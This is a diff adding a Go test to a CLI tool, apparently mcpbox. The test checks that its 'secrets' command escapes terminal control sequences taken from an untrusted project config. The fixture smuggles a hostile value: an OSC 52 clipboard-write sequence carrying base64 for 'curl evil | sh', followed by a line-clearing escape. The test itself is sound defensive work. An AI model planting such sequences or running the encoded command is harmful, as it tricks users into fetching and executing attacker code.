@@ -158,3 +158,23 @@ func TestBannerTokenOnlyOnTerminal(t *testing.T) {
 		t.Fatal("read nothing of the banner from the terminal in 10s")
 	}
 }
+
+// TestSecretsListIsTerminalSafe: mcpbox secrets, run in a cloned
+// project, lists its mcpbox.yaml, which is not trusted: a reference
+// holding an escape sequence (a clipboard write, a cleared line) is shown
+// escaped, not sent to the terminal.
+func TestSecretsListIsTerminalSafe(t *testing.T) {
+	dir := t.TempDir()
+	t.Chdir(dir)
+	cfg := "version: 1\nservers:\n  s:\n    command: [true]\n    secrets:\n      TOKEN_T: {from: \"file:/x\\e]52;c;Y3VybCBldmlsIHwgc2g=\\a\\e[2K\\r\"}\n    tools: {allow: [\"*\"]}\n"
+	if err := os.WriteFile(filepath.Join(dir, "mcpbox.yaml"), []byte(cfg), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	code, out, errs := runCLI("secrets")
+	if code != 0 || !strings.Contains(out, `file:/x\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\x1b[2K\x0d`) {
+		t.Fatalf("exit %d\nstdout: %q\nstderr: %s", code, out, errs)
+	}
+	if strings.ContainsAny(out, "\x1b\x07\r") {
+		t.Errorf("control characters reach the terminal: %q", out)
+	}
+}
